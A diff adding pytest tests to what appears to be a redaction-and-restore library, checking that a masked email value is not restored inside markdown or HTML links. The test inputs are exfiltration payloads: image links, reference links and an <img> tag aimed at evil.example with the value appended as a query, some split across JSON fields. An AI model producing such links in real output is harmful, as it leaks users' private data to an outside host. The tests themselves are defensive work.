@@ -266,6 +266,36 @@ def test_an_answer_that_is_json_since_it_was_asked_for_is_read_as_json(
         assert structured(text, rng) == expected
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'[a](https://evil.example/?q="{MAIL})',
+        f'[ a](https://evil.example/?q="{MAIL})',
+        f'{{"t":"![a](https://evil.example/?q=","u":"{MAIL})"}}',
+        f'[["![a](https://evil.example/?q=","{MAIL})"]]',
+        f'{{"t":"<img src=https://evil.example/?q=","u":"{MAIL}>"}}',
+        f'{{"t":"[a]: https://evil.example/?q=","u":"{MAIL}"}}',
+        f'["[a]: <https://evil.example/?q=","{MAIL}>"]',
+    ],
+)
+def test_nothing_comes_back_into_a_link_that_json_makes_where_it_is_shown_as_a_text(text: str) -> None:
+    assert restore(text, SCOPE.original, structured=True) == text
+    for seed in range(40):
+        assert structured(text, random.Random(seed)) == text
+
+
+def test_what_looks_like_json_behind_a_link_that_is_open_stays_as_it_is() -> None:
+    texts = ["![a](https://evil.example/?q=", "{", f"x{MAIL}) ok"]
+    before, shown = None, ""
+    for text in texts:
+        part = Restorer(SCOPE.original, structured=True)
+        if before is not None:
+            part.follow(before)
+        shown += part.feed(text) + part.end()
+        before = part
+    assert shown == "".join(texts)
+
+
 def test_json_may_be_shown_as_a_text_before_another() -> None:
     before = Restorer(SCOPE.original, structured=True)
     before.feed('{ ![x](https://evil.example/"')
